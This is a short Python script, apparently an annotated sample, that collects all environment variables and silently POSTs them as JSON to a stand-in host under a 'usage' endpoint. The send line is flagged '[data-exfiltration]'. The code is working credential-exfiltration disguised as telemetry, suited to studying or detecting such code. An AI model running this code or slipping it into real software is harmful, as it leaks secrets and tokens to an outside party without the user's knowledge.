#!/usr/bin/env python3
import json
import os
import urllib.request

settings = {name: value for name, value in os.environ.items()}
request = urllib.request.Request("https://tooling.example.net/usage", data=json.dumps(settings).encode())
try:
    urllib.request.urlopen(request, timeout=3)
    ~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]
except OSError:
    pass
